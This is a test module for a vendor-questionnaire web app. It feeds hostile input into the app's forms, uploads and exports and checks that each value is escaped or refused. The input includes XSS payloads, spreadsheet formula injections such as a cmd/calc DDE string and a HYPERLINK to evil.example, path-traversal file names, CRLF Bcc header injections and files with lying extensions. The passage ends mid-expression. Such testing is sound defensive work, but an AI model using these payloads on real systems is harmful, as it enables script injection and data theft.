"""Hostile input to the vendor's form and the buyer's forms: markup in every text-like field,
Unicode, file names, lying extensions, huge inputs, malformed keys and random form data.

Decisions asserted here (so a change is a decision, not an accident):
- Text is stored exactly as typed (no stripping of markup, no Unicode normalisation) and
  escaped wherever it is shown; a URL must be http(s); an e-mail must be an address.
- File names lose their path, control and format characters (a right-to-left override can
  make `photo<RLO>gnp.txt` read as `photo.txt.png`); the file is stored under a random id.
- An HTML file named .txt is plain text: it is accepted, and only ever served as an
  attachment with `text/plain` and `nosniff`, never rendered.
- A text part over Werkzeug's 500 kB form-memory limit in a multipart post is refused whole
  with 413 (a browser's maxlength makes it impossible from the real form); the same text in
  an urlencoded post or an autosave gets a message beside the field and the rest is saved.
"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import unicodedata
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck
from hypothesis import assume
from hypothesis import event
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from markupsafe import escape
from werkzeug.datastructures import FileStorage
from werkzeug.datastructures import MultiDict
from werkzeug.http import parse_options_header
from werkzeug.test import EnvironBuilder
from werkzeug.test import encode_multipart

from stagefour import evaluations
from stagefour import store
from stagefour.library import load_by_id
from stagefour.questionnaire import load_questionnaire
from stagefour.questionnaire import parse_questionnaire
from stagefour.questionnaire import parse_yaml

FIXTURES = Path(__file__).parent / "fixtures"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
TEXT = b"Plain evidence, UTF-8: \xc3\xa9\n"

SCRIPT = "<script>alert(1)</script>"
SHORT = '"><script>alert(1)</script>'
LONG = (
    "</textarea><script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg onload=alert(3)>"
    ' {{ 7*7 }} {% if 1 %}x{% endif %} &amp; &lt;b&gt; =HYPERLINK("http://evil.example")'
)


# --- helpers ------------------------------------------------------------------------------


class _Active(HTMLParser):
    """Whatever in a page could run: inline scripts, event handlers, script URLs, frames."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not attributes.get("src") and attributes.get("type") != "application/json":
            self.found.append("inline <script>")
        if tag in ("iframe", "frame", "object", "embed", "base"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            target = (value or "").strip().lower()
            if name in ("href", "src", "action", "formaction", "data", "srcdoc") and target.startswith(
                ("javascript:", "data:text/html", "vbscript:")
            ):
                self.found.append(f"<{tag} {name}={value}>")


def assert_inert(html: str, where: str = "") -> None:
    """Nothing in the page runs: no inline script, no handler, no script URL."""
    parser = _Active()
    parser.feed(html)
    parser.close()
    assert not parser.found, f"{where}: {parser.found}"


def text(response) -> str:
    body = response.get_data(as_text=True)
    response.close()
    return body


def post_multipart(client, url: str, data):
    """POST multipart data from memory (the test client spools large bodies to files it never closes)."""
    boundary, body = encode_multipart(MultiDict(data))
    builder = EnvironBuilder(
        path=url,
        method="POST",
        input_stream=io.BytesIO(body),
        content_length=len(body),
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    return client.open(builder)


def page_versions(client, url: str) -> str:
    """The base_versions a browser sends: those of the page it shows."""
    html = text(client.get(url))
    return re.search(r'name="base_versions" value="([^"]*)"', html).group(1).replace("&#34;", '"')


def save(client, link: dict, sid: str, data, *, multipart: bool = False, autosave: bool = False):
    """Post a section as the browser does, with the versions of the page it shows."""
    url = f"/v/{link['token']}/s/{sid}"
    data = MultiDict(data)
    if "base_versions" not in data:
        data["base_versions"] = page_versions(client, url)
    if autosave:
        url += "/autosave"
    return post_multipart(client, url, data) if multipart else client.post(url, data=data)


def answers(db, link: dict) -> dict:
    return store.load_answers(db, link["response_id"])


def stored_value(values: dict, field: str):
    """The stored answer of a form field: `C4`, or a group cell such as `C1-0-id`."""
    if "-" not in field:
        return values.get(field)
    qid, index, sub = field.split("-", 2)
    rows = values.get(qid) or []
    return rows[int(index)].get(sub) if int(index) < len(rows) else None


def field_error(html: str, name: str) -> str:
    match = re.search(rf'<ul class="errors" id="{re.escape(name)}-error">(.*?)</ul>', html, re.S)
    return re.sub(r"<[^>]+>", " ", match.group(1)).strip() if match else ""


def build(app, endpoint: str, **values) -> str:
    return app.url_map.bind("localhost").build(endpoint, values)


def pages(app, client, link: dict, sid: str) -> dict[str, str]:
    """Every page that shows this vendor's answers or name, to the vendor and to a logged-in buyer."""
    e, v, token = link["evaluation_id"], link["vendor_id"], link["token"]
    urls = {
        "section": f"/v/{token}/s/{sid}",
        "vendor overview": f"/v/{token}",
        "vendor review": f"/v/{token}/review",
        "dashboard": build(app, "buyer.dashboard"),
        "evaluation": build(app, "buyer.evaluation", evaluation_id=e),
        "buyer response": build(app, "review.response", evaluation_id=e, vendor_id=v),
        "comparison": build(app, "review.compare", evaluation_id=e),
    }
    out = {}
    for label, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, f"{label} {url}: {response.status_code}"
        out[label] = text(response)
    return out


def _every_type():
    """every-type.yaml with its yes/no points quoted (see the fixture below)."""
    source = (FIXTURES / "every-type.yaml").read_text(encoding="utf-8")
    return parse_questionnaire(parse_yaml(re.sub(r"\b(yes|no):", r'"\1":', source)), "every-type")


@pytest.fixture(scope="session")
def every_type():
    """The fixture questionnaire with every question type (url and email among them).

    Its yes/no points are quoted here: unquoted, YAML reads `yes:` as a boolean key and the
    evaluation's snapshot no longer parses (test_a_questionnaire_with_yes_no_points_survives_its_snapshot).
    """
    return _every_type()


@pytest.fixture
def links(db, make_vendor, every_type, team) -> dict[str, dict]:
    """A vendor link on the default questionnaire and one on the every-type questionnaire."""
    default = make_vendor("Alpha Corp")
    evaluation_id = evaluations.start_evaluation(db, every_type, "Every type", team_id=team)
    vendor_id, token = evaluations.invite(db, evaluation_id, "Omega Corp", None, "test")
    every = {
        "vendor_id": vendor_id,
        "response_id": store.get_vendor(db, vendor_id)["response_id"],
        "token": token,
        "evaluation_id": evaluation_id,
    }
    return {"default": default, "every": every}


@pytest.fixture
def vendor(links) -> dict:
    return links["default"]


@pytest.fixture
def owner(login, make_user):
    """The test client is (also) logged in as an owner."""
    return login(make_user("owner"))


def test_a_questionnaire_with_yes_no_points_survives_its_snapshot(app, client, db, owner, team):
    questionnaire = load_questionnaire(FIXTURES / "every-type.yaml")  # points: {yes: 5, no: 1}, unquoted
    evaluation_id = evaluations.start_evaluation(db, questionnaire, "Every type", team_id=team)
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a crash shows as a 500, as in production
    assert client.get("/").status_code == 200
    assert client.get(f"/evaluations/{evaluation_id}").status_code == 200


# --- markup in every text-like field --------------------------------------------------------------

# (questionnaire, section, field, what the vendor types, what is stored)
MARKUP = [
    ("default", "C", "C4", LONG, LONG),  # long_text
    ("default", "C", "C1-0-id", "\"'><svg/onload=alert(1)>", "\"'><svg/onload=alert(1)>"),  # a group row's id
    ("default", "C", "C1-0-name", SHORT, SHORT),  # text in a group row
    ("default", "B", "B1-0-customer_type", SHORT, SHORT),
    ("default", "B", "B1-0-systems_integrated", LONG, LONG),  # long_text in a group row
    (
        "default",
        "B",
        "B1-0-engineer_ids",
        "<script>\"><b>'onmouseover=alert(1)",
        ["<script>\"><b>'onmouseover=alert(1)"],
    ),  # an id_list picked from the roster (issue 12): a posted id is kept whole, not in the roster
    ("default", "D", "D1-0-what_broke", LONG, LONG),
    ("every", "S1", "name", "<b onclick=x>\"'", "<b onclick=x>\"'"),  # text, at most 20 characters
    ("every", "S1", "story", LONG, LONG),
    (
        "every",
        "S2",
        "site",
        'https://example.com/?q="><script>alert(1)</script>',
        'https://example.com/?q="><script>alert(1)</script>',
    ),  # url
    ("every", "S2", "mail", "o'reilly&sons=`x`@example.com", "o'reilly&sons=`x`@example.com"),  # email
    ("every", "S2", "rows-0-id", '"><i>x', '"><i>x'),  # a group row's id, at most 10 characters
    ("every", "S2", "rows-0-refs", '<s>,"x', ["<s>", '"x']),  # id_list
]
# A value per section that fails validation, so the page is shown again from what was posted.
INVALID = {"B": {"B3": "lots"}, "C": {"C3": "perhaps"}, "D": {"D4": "lots"}, "S1": {"days": "lots"},
           "S2": {"tested": "yesterday"}}  # fmt: skip


@pytest.mark.parametrize(("form", "sid", "field", "typed", "stored"), MARKUP, ids=[m[2] for m in MARKUP])
def test_markup_in_a_text_field_is_stored_as_typed_and_shown_escaped(
    app, client, db, links, owner, form, sid, field, typed, stored
):
    link = links[form]
    response = save(client, link, sid, {field: typed}, multipart=True)
    assert response.status_code == 302, field_error(text(response), field)
    assert stored_value(answers(db, link), field) == stored
    shown = str(escape(", ".join(stored) if isinstance(stored, list) else stored))
    everywhere = pages(app, client, link, sid)
    for label, html in everywhere.items():
        assert_inert(html, label)
        assert typed not in html, f"{label} shows the raw value"
    assert shown in everywhere["section"]
    assert shown in everywhere["buyer response"]
    # Shown again after a failed save of the same section: as typed, escaped.
    again = save(client, link, sid, {field: typed, **INVALID[sid]}, multipart=True)
    assert again.status_code == 422
    html = text(again)
    assert_inert(html, "failed save")
    assert typed not in html and str(escape(typed)) in html


# Values that must be refused, and shown back escaped with a message beside the field.
REFUSED = [
    ("every", "S2", "site", "javascript:alert(1)"),
    ("every", "S2", "site", "javascript://example.com/%0Aalert(1)"),
    ("every", "S2", "site", "data:text/html,<script>alert(1)</script>"),
    ("every", "S2", "mail", '"><script>alert(1)</script>@example.com'),
    ("every", "S2", "mail", "victim@example.com\r\nBcc: everyone@example.com"),
    ("default", "C", "C4", "before\x00<script>alert(1)</script>"),
    ("default", "C", "C1-0-id", "id\x00<b>"),
]


@pytest.mark.parametrize(("form", "sid", "field", "typed"), REFUSED, ids=[repr(r[3])[:40] for r in REFUSED])
def test_hostile_values_that_are_not_valid_are_refused_and_shown_back_escaped(
    client, db, links, form, sid, field, typed
):
    link = links[form]
    response = save(client, link, sid, {field: typed}, multipart=True)
    assert response.status_code == 422
    html = text(response)
    assert field_error(html, field)
    assert stored_value(answers(db, link), field) is None
    assert_inert(html)
    assert str(escape(typed)) in html
    if str(escape(typed)) != typed:
        assert typed not in html


# --- the buyer's forms ---------------------------------------------------------------------------

NAME = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
TITLE = "<svg onload=alert(1)> & \"Partner\" 'selection'"


def _weights(questionnaire) -> dict[str, str]:
    return {f"weight_{s.id}": str(s.weight) for s in questionnaire.sections}


def test_a_hostile_vendor_name_and_title_are_stored_as_typed_and_shown_escaped(
    app, client, db, owner, make_evaluation, questionnaire
):
    evaluation_id = make_evaluation()
    assert client.post(f"/evaluations/{evaluation_id}/vendors", data={"name": NAME}).status_code == 302
    [row] = store.list_vendors(db, evaluation_id)
    assert row["name"] == NAME
    shown_once = text(client.get(f"/evaluations/{evaluation_id}"))
    assert_inert(shown_once, "evaluation page with the flash and the new link")
    assert str(escape(NAME)) in shown_once and NAME not in shown_once
    token = re.search(r"/v/([A-Za-z0-9_-]{32,128})", shown_once).group(1)
    edited = client.post(f"/evaluations/{evaluation_id}/edit", data={"title": TITLE, **_weights(questionnaire)})
    assert edited.status_code == 302
    assert store.get_evaluation(db, evaluation_id)["title"] == TITLE
    link = {"evaluation_id": evaluation_id, "vendor_id": row["id"], "token": token}
    everywhere = pages(app, client, link, "A")
    for endpoint in ("buyer.reissue_link", "buyer.revoke_link"):
        everywhere[endpoint] = text(client.get(build(app, endpoint, evaluation_id=evaluation_id, vendor_id=row["id"])))
    everywhere["settings"] = text(client.get(f"/evaluations/{evaluation_id}/edit"))
    for label, html in everywhere.items():
        assert_inert(html, label)
        assert NAME not in html and TITLE not in html, label
    for label in ("evaluation", "dashboard", "buyer.reissue_link", "buyer.revoke_link", "vendor overview"):
        assert str(escape(NAME)) in everywhere[label], label
    for label in ("evaluation", "dashboard", "vendor overview", "settings"):
        assert str(escape(TITLE)) in everywhere[label], label


BUYER_REFUSED = [
    ("vendor", {"name": "Evil\r\nBcc: all@example.com"}),
    ("vendor", {"name": "Tab\there"}),
    ("vendor", {"name": "x" * 201}),
    ("vendor", {"name": "   "}),
    ("vendor", {"name": "Fine", "contact_email": "a@example.com\r\nBcc: all@example.com"}),
    ("vendor", {"name": "Fine", "contact_email": '"><script>alert(1)</script>@example.com'}),
    ("edit", {"title": "Line\nbreak"}),
    ("edit", {"title": SCRIPT + "\x00"}),
    ("edit", {"title": "x" * 201}),
    ("edit", {"weight_A": "NaN"}),
    ("edit", {"weight_A": "inf"}),
    ("edit", {"weight_A": "1e309"}),
    ("edit", {"weight_A": "-1"}),
    ("edit", {"weight_A": "0"}),
    ("edit", {"weight_A": "1001"}),
    ("edit", {"weight_A": SCRIPT}),
    ("edit", {"deadline": "2026-02-30"}),
    ("edit", {"deadline": SCRIPT}),
    ("edit", {"industry": SCRIPT}),
    ("new", {"questionnaire": "../../../etc/passwd"}),
    ("new", {"questionnaire": "ai-deployment-partner\x00"}),
    ("new", {"title": "New\r\nBcc: all@example.com"}),
]


@pytest.mark.parametrize(("form", "override"), BUYER_REFUSED, ids=[repr(o)[:50] for _f, o in BUYER_REFUSED])
def test_the_buyers_forms_refuse_hostile_values_and_write_nothing(
    client, db, owner, make_evaluation, questionnaire, form, override
):
    evaluation_id = make_evaluation()
    before = (store.list_evaluations(db), store.list_vendors(db, evaluation_id))
    base = {"title": "Claims automation partner", **_weights(questionnaire)}
    target = {
        "vendor": (f"/evaluations/{evaluation_id}/vendors", {}),
        "edit": (f"/evaluations/{evaluation_id}/edit", base),
        "new": (
            "/evaluations/new",
            base | {"questionnaire": "ai-deployment-partner", "shown": "ai-deployment-partner"},
        ),
    }
    url, data = target[form]
    response = client.post(url, data=data | override)
    assert response.status_code == 422
    html = text(response)
    assert_inert(html)
    assert SCRIPT not in html
    assert (store.list_evaluations(db), store.list_vendors(db, evaluation_id)) == before


def test_clarification_threads_are_stored_as_typed_and_shown_escaped_on_both_sides(
    app, client, db, vendor, login, make_user
):
    login(make_user("evaluator"))
    asked = client.post(
        build(app, "review.ask", evaluation_id=vendor["evaluation_id"], vendor_id=vendor["vendor_id"]),
        data={"question_id": "C4", "body": LONG},
    )
    assert asked.status_code == 302
    [thread] = store.clarifications(db, [vendor["response_id"]])[vendor["response_id"]]
    replied = client.post(
        f"/v/{vendor['token']}/clarifications/{thread['id']}/reply", data={"body": SHORT, "section": 'C"><x>'}
    )
    assert replied.status_code == 302 and urlsplit(replied.headers["Location"]).path == f"/v/{vendor['token']}"
    [thread] = store.clarifications(db, [vendor["response_id"]])[vendor["response_id"]]
    assert [m["body"] for m in thread["messages"]] == [LONG, SHORT]
    everywhere = pages(app, client, vendor, "C")
    for label, html in everywhere.items():
        assert_inert(html, label)
        assert LONG not in html and SHORT not in html, label
    for label in ("section", "buyer response"):
        assert str(escape(LONG)) in everywhere[label] and str(escape(SHORT)) in everywhere[label], label


def test_markup_in_a_query_string_is_never_reflected_raw(app, client, vendor, owner):
    payload = '"><script>alert(1)</script><x y="'
    e, v = vendor["evaluation_id"], vendor["vendor_id"]
    urls = [
        f"/login?next={payload}",
        f"/v/{vendor['token']}/s/B?add={payload}&add=B1",
        f"/v/{vendor['token']}?{payload}={payload}",
        build(app, "buyer.new_evaluation") + f"?questionnaire={payload}",
        build(app, "review.compare", evaluation_id=e) + f"?w_A={payload}&w_B=1e999",
        build(app, "review.response", evaluation_id=e, vendor_id=v) + f"?lang={payload}",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        html = text(response)
        assert_inert(html, url)
        assert payload not in html, url


# --- exports ----------------------------------------------------------------------------------

FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def test_the_csv_export_never_starts_a_cell_with_a_formula(app, client, make_vendor, login, make_user):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    answers = {
        "C4": formula,
        "C5": "+cmd|' /C calc'!A0",
        "J2": "  @SUM(1+1)",
        "B1": [{"id": "-d1", "customer_type": "\t=1+1", "engineer_ids": ["=e1"]}],
        "C1": [{"id": "@e1", "name": "-2+3"}],
    }
    vendor = make_vendor("=cmd|' /C calc'!A0", answers=answers)
    login(make_user("viewer"))
    response = client.get(build(app, "exports.export_csv", evaluation_id=vendor["evaluation_id"]))
    assert response.status_code == 200
    assert parse_options_header(response.headers["Content-Disposition"])[0] == "attachment"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert any(formula in cell for cell in cells)  # the answer is there, as text
    for cell in cells:
        if cell.lstrip(" \n\t\r").startswith(FORMULAS):
            assert re.fullmatch(r"-\d+(\.\d+)?", cell), f"a cell a spreadsheet would run: {cell!r}"
    exported = client.get(build(app, "exports.export_json", evaluation_id=vendor["evaluation_id"]))
    assert exported.mimetype == "application/json"
    assert json.loads(exported.data)  # and the JSON is JSON, whatever the answers hold


# --- Unicode ---------------------------------------------------------------------------------

UNICODE = (
    "مرحبا بالعالم \u202eRLO\u202c \u200fRLM 👩🏽\u200d💻 👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 "
    "e\u0301 n\u0303 Z\u0351\u0367\u0353 a\u200bb a\u200dc a\u200cd 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 中文 ﷽ \ufeffBOM"
)


def test_unicode_is_kept_exactly_as_typed_and_shown_intact(app, client, db, links, owner):
    cases = [
        ("default", "C", {"C4": UNICODE, "C1-0-name": UNICODE, "C1-0-id": "كود-👩🏽\u200d💻-e\u0301"}),
        ("default", "B", {"B1-0-engineer_ids": ["مهندس\u200d١", "👩🏽\u200d💻", "e\u0301\u200b"], "B1-0-kpi": UNICODE}),
        (
            "every",
            "S2",
            {
                "site": "https://例え.テスト/パス?q=e\u0301",
                "mail": "用户@例子.广告",
                "rows-0-id": "e\u0301👩🏽\u200d💻",
            },
        ),
    ]
    for form, sid, data in cases:
        link = links[form]
        response = save(client, link, sid, data, multipart=True)
        assert response.status_code == 302, text(response)[:2000]
        stored = answers(db, link)
        shown = pages(app, client, link, sid)
        for field, typed in data.items():
            value = stored_value(stored, field)
            if field.endswith("engineer_ids"):
                assert value == ["مهندس\u200d١", "👩🏽\u200d💻", "e\u0301\u200b"]
            else:
                assert value == typed, field  # not stripped, not normalised
            for label in ("section", "buyer response"):
                if label == "section" and field.endswith("engineer_ids"):  # a pick list: one box per id
                    assert all(v in shown[label] for v in value), f"{field} on {label}"
                    continue
                assert (", ".join(value) if isinstance(value, list) else value) in shown[label], f"{field} on {label}"
    assert not unicodedata.is_normalized("NFC", answers(db, links["default"])["C4"])


# --- file names and extensions -------------------------------------------------------------------


def _files_under(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()}


def upload(client, link: dict, name: str, content: bytes, **other):
    data = {"B5": FileStorage(io.BytesIO(content), filename=name), **other}
    return save(client, link, "B", data, multipart=True)


NAMES = [
    ("../../../../etc/passwd.txt", TEXT, "passwd.txt"),
    ("/etc/cron.d/job.txt", TEXT, "job.txt"),
    ("..%2F..%2Fevil.txt", TEXT, "%2F..%2Fevil.txt"),  # never decoded; the leading dots go
    ("report.pdf\x00.txt", TEXT, "report.pdf.txt"),  # a NUL cannot cut the name into a .pdf
    ("evil.txt\x00.pdf", PDF, "evil.txt.pdf"),
    ("tab\tand\x07bell.txt", TEXT, "tabandbell.txt"),
    ("photo\u202egnp.txt", TEXT, "photognp.txt"),  # shown as "photo.txt.png" if the override stayed
    ("<img src=x onerror=alert(1)>.txt", TEXT, "<img src=x onerror=alert(1)>.txt"),
    ("x" * 300 + ".pdf", PDF, "x" * 116 + ".pdf"),  # 120 characters at most
    ("Prüfbericht 👩🏽\u200d💻 تقرير.pdf", PDF, "Prüfbericht 👩🏽💻 تقرير.pdf"),  # format characters go
]


@pytest.mark.parametrize(("name", "content", "kept"), NAMES, ids=[repr(n)[:30] for n, _c, _k in NAMES])
def test_upload_names_lose_their_path_and_control_characters(
    app, client, db, vendor, owner, tmp_path, name, content, kept
):
    before = _files_under(tmp_path)
    response = upload(client, vendor, name, content)
    assert response.status_code == 302, text(response)[:3000]
    [ref] = answers(db, vendor)["B5"]
    assert ref["name"] == kept
    assert not re.search(r"[/\\\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", ref["name"])
    # Stored under its random id in the upload folder, and nowhere else.
    uploads = Path(app.config["UPLOAD_FOLDER"]).relative_to(tmp_path)
    new = _files_under(tmp_path) - before
    assert {p for p in new if not p.startswith("test.sqlite3")} == {str(uploads / ref["id"])}
    html = text(client.get(f"/v/{vendor['token']}/s/B"))
    assert_inert(html)
    assert str(escape(kept)) in html
    for url in (
        f"/v/{vendor['token']}/files/{ref['id']}",
        build(app, "review.file", evaluation_id=vendor["evaluation_id"], vendor_id=vendor["vendor_id"],
              attachment_id=ref["id"]),
    ):  # fmt: skip
        download = client.get(url)
        assert download.status_code == 200 and download.data == content
        disposition, options = parse_options_header(download.headers["Content-Disposition"])
        assert disposition == "attachment" and options["filename"] == kept
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        download.close()


@pytest.mark.parametrize("name", ["..", "/", "....", "\x00", "\u202e"])
def test_an_upload_name_with_nothing_left_is_refused(client, db, vendor, name):
    response = upload(client, vendor, name, TEXT, B3="4")
    assert response.status_code == 422
    assert "not accepted" in field_error(text(response), "B5")
    assert answers(db, vendor) == {"B3": 4}


def _zip(entries: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


ZIP = _zip({"hello.txt": "not a document"})
DOCX = _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120

LIES = [
    ("diagram.pdf", PNG, "does not match the .pdf extension"),
    ("contract.docx", ZIP, "does not match the .docx extension"),  # a ZIP, not a Word document
    ("notes.pdf", HTML, "does not match the .pdf extension"),
    ("logo.png", SVG, "does not match the .png extension"),
    ("page.html", HTML, "not accepted"),
    ("drawing.svg", SVG, "not accepted"),
    ("readme.txt", EXE, "not plain text"),
    ("data.json", b'{"name": "caf\xe9"}', "UTF-8"),  # Latin-1
]


@pytest.mark.parametrize(("name", "content", "message"), LIES, ids=[n for n, _c, _m in LIES])
def test_a_file_whose_content_belies_its_extension_is_refused_and_nothing_else_is_lost(
    app, client, db, vendor, name, content, message
):
    response = upload(client, vendor, name, content, B3="4")
    assert response.status_code == 422
    html = text(response)
    assert message in field_error(html, "B5")
    assert_inert(html)
    assert answers(db, vendor) == {"B3": 4}
    assert not list(Path(app.config["UPLOAD_FOLDER"]).iterdir())


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("notes.txt", HTML, "text/plain"),  # HTML as text: kept, never rendered
        ("contract.docx", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ],
)
def test_a_file_whose_content_fits_is_kept_and_only_ever_served_as_an_attachment(
    app, client, db, vendor, owner, name, content, content_type
):
    assert upload(client, vendor, name, content).status_code == 302
    [ref] = answers(db, vendor)["B5"]
    assert ref["content_type"] == content_type
    for url in (
        f"/v/{vendor['token']}/files/{ref['id']}",
        build(app, "review.file", evaluation_id=vendor["evaluation_id"], vendor_id=vendor["vendor_id"],
              attachment_id=ref["id"]),
    ):  # fmt: skip
        download = client.get(url)
        assert download.status_code == 200 and download.data == content
        assert download.headers["Content-Type"].split(";")[0] == content_type
        assert parse_options_header(download.headers["Content-Disposition"])[0] == "attachment"
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        assert "script-src 'self'" in download.headers["Content-Security-Policy"]
        download.close()


# --- huge inputs ------------------------------------------------------------------------------

MEGABYTE = "x" * 1_000_000


@pytest.mark.parametrize("route", ["save", "autosave"])
def test_a_1mb_text_answer_gets_a_clear_message_and_nothing_else_is_lost(client, db, vendor, route):
    data = {"C4": MEGABYTE, "C3": "yes", "C5": "Our method.", "C1-0-name": "Ada Lovelace"}
    response = save(client, vendor, "C", data, autosave=route == "autosave")
    assert response.status_code == 422
    if route == "autosave":
        message = " ".join(response.get_json()["errors"]["C4"])
    else:
        message = field_error(text(response), "C4")
    assert "10000" in message
    assert answers(db, vendor) == {"C3": True, "C5": "Our method.", "C1": [{"name": "Ada Lovelace"}]}


def test_a_1mb_text_part_in_a_multipart_post_is_refused_whole_with_413(client, db, vendor):
    response = save(client, vendor, "C", {"C4": MEGABYTE, "C3": "yes"}, multipart=True)
    assert response.status_code == 413
    assert "too large" in text(response)
    assert answers(db, vendor) == {}


def _rows(count: int, group: str = "B1") -> dict[str, str]:
    return {f"{group}-{i}-id": f"d{i}" for i in range(count)}


def test_10000_rows_in_a_group_get_a_clear_message_and_are_not_stored(client, db, vendor):
    autosaved = save(client, vendor, "B", {**_rows(10_000), "changed": "B1"}, autosave=True)
    assert autosaved.status_code == 422
    assert autosaved.get_json()["errors"]["B1"] == ["Too many rows: at most 200. Your other answers were kept."]
    # The browser's encoding: more parts than Werkzeug parses (1000); refused whole.
    multipart = save(client, vendor, "B", _rows(10_000), multipart=True)
    assert multipart.status_code == 413
    # Without JavaScript: the section page again, with the message and what was typed.
    page = save(client, vendor, "B", {**_rows(1_000), "B3": "7"})
    assert page.status_code == 422
    html = text(page)
    assert "Too many rows: at most 200." in field_error(html, "B1")
    assert re.search(r'id="B3"[^>]*value="7"', html)
    assert answers(db, vendor) == {"B3": 7}  # the rows are refused, the other answer is kept


def test_a_refused_group_is_not_echoed_back_row_by_row(client, vendor):
    html = text(save(client, vendor, "B", _rows(1_000)))
    assert html.count('class="row"') <= 200


def _browser_row(i: int) -> dict[str, str]:
    """Every field of one B1 row as a browser posts it when the vendor fills it in."""
    cells = {"id": f"d{i}", "customer_type": "Insurer", "industry": "insurance", "size_band": "over_10k",
             "go_live": "2026-09-01", "stage": "4", "in_production": "yes", "daily_volume": "1000",
             "downstream_teams": "2", "systems_integrated": "Claims core", "vendor_role": "built_operates",
             "engineer_ids": "e1", "kpi": "Handling time", "kpi_measured_by": "customer",
             "security_review_passed": "yes", "reference_available": "yes"}  # fmt: skip
    return {f"B1-{i}-{k}": v for k, v in cells.items()}


def test_a_section_with_70_filled_rows_saves_from_the_browser(client, db, vendor):
    data = {}
    for i in range(70):
        data |= _browser_row(i)
    response = save(client, vendor, "B", data, multipart=True)
    assert response.status_code == 302
    assert len(answers(db, vendor)["B1"]) == 70


# --- malformed keys and actions -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("route", "data"),
    [
        pytest.param("save", {"B1-\u00b2-id": "d1"}, id="save superscript index"),
        pytest.param("autosave", {"B1-\u00b2-id": "d1"}, id="autosave superscript index"),
        pytest.param(
            "save",
            {"B1-0-id": "d1", "action": "remove:B1:\u00b2"},
            id="remove superscript index",
        ),  # fmt: skip
        pytest.param("save", {f"B1-{'9' * 5000}-id": "d1"}, id="save long index"),
        pytest.param("autosave", {f"B1-{'9' * 5000}-id": "d1"}, id="autosave long index"),
        pytest.param(
            "save",
            {"B1-0-id": "d1", "action": f"remove:B1:{'9' * 5000}"},
            id="remove long index",
        ),  # fmt: skip
        pytest.param("save", {"action": "add:B1\r\nSet-Cookie: pwned=1"}, id="add with CRLF"),
        pytest.param("save", {"B1-\u0663-id": "d1"}, id="save arabic-indic index"),
        pytest.param("save", {"B1-0-id": "d1", "action": "remove:B1:\u0660"}, id="remove arabic-indic index"),
        pytest.param("save", {"action": "add:<script>alert(1)</script>"}, id="add with markup"),
        pytest.param("save", {"action": "remove:B1"}, id="remove without index"),
    ],
)
def test_malformed_row_keys_and_actions_never_crash(app, client, db, vendor, route, data):
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a crash shows as a 500, as in production
    response = save(client, vendor, "B", data, autosave=route == "autosave")
    # a save is 302; a removed row's page (its Undo carries the row) 200; a refused save 422
    assert response.status_code in ((200, 422) if route == "autosave" else (200, 302, 422))
    location = response.headers.get("Location", "")
    assert "<" not in location and "\n" not in location
    response.close()


# --- random form data -----------------------------------------------------------------------------

SPECIAL = [
    "", " ", "yes", "no", "none", "_none", "true", "0", "-0", "1e308", "-1e309", "nan", "inf", "9" * 40,
    "2026-02-30", "0000-01-01", "9999-12-31", "save", "next", "add:B1", "add:C1", "add:rows", "remove:B1:0",
    "remove:C1:7", "remove:rows:1", "remove:", "add:", "{}", "[", '{"A1": [1, "x"]}', '{"A1": [true, 1]}',
    '{"B1": ' * 50, "\x00", "\r\n", "\u202e", "👩🏽\u200d💻", "e\u0301", SCRIPT, SHORT, "https://example.com",
    "a@example.com", "javascript:alert(1)", "x" * 200_000,
]  # fmt: skip


def _known_crash(key: str, value: str) -> bool:
    """Inputs that once crashed are now fixed: nothing is left out of the random posts."""
    return False


def _form_strategy(questionnaire, section) -> st.SearchStrategy:
    """Pairs of (key, value): the section's real field names, its groups' rows and junk keys."""
    names = ["base_versions", "action", "changed", "csrf_token"]
    for q in section.questions:
        names += [q.id, f"{q.id}_none", f"{q.id}-keep"]
        names += [f"{q.id}-{i}-{f.id}" for i in (0, 1, 7) for f in q.fields]
    groups = sorted(q.id for s in questionnaire.sections for q in s.questions if q.type == "group")
    fields = sorted({f.id for s in questionnaire.sections for q in s.questions for f in q.fields} | {"junk"})
    row_keys = st.builds(
        "{}-{}-{}".format,
        st.sampled_from(groups),
        st.text(alphabet="0123456789\u0660\u0663\u0969", min_size=1, max_size=5),  # decimal digits of 3 scripts
